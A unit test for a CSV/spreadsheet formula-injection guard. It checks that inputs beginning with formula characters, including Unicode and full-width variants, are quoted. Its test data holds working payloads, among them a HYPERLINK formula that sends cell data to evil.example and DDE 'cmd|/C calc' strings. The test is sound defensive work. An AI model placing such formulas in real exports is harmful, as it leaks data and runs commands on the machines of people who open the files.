import { describe, expect, it } from 'vitest';
import { findSharedJson } from '../../domain/report/hostile-strings';
import { guardFormula } from '@/lib/server/exporters/formula-guard';

const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '   \u00A0=1+1',
  '\u3000=1+1',
  '\uFEFF=1+1',
  '\u200B=1+1',
  '\u202E=1+1',
  '\u0000=1+1',
  '\u001F+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  ' ＝1+1',
  '\ttext',
  '\rtext',
  '\ntext',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "=cmd|'/C calc'!A0",
  "+cmd|'/C calc'!A0",
  '-2+3+cmd|" /C calc"!D2',
  '@SUM(1+9)*cmd|" /C calc"!A0',
];
const harmless = [
  '',
  'text',
  '1.9 billion',
  '2026-11-22',
  '"=1+1',
  'a=b',
  'a\n=1+1',
  '(−5)',
  "'=1+1",
  '§1',
  '‘quoted’',
];

describe('guardFormula', () => {
  it.each(formulas)('quotes %j', (text) => expect(guardFormula(text)).toBe(`'${text}`));
  it.each(harmless)('leaves %j', (text) => expect(guardFormula(text)).toBe(text));

  it('quotes every form of the shared list that starts one', () => {
    const list = findSharedJson('security/csv.json');
    if (!Array.isArray(list)) return;
    const open = list.filter((text: string) => /^\s*[=+\-@＝＋－＠]|^[\t\r\n]/.test(text));
    expect(open.length).toBeGreaterThan(20);
    expect(open.filter((text: string) => guardFormula(text) !== `'${text}`)).toEqual([]);
  });
});
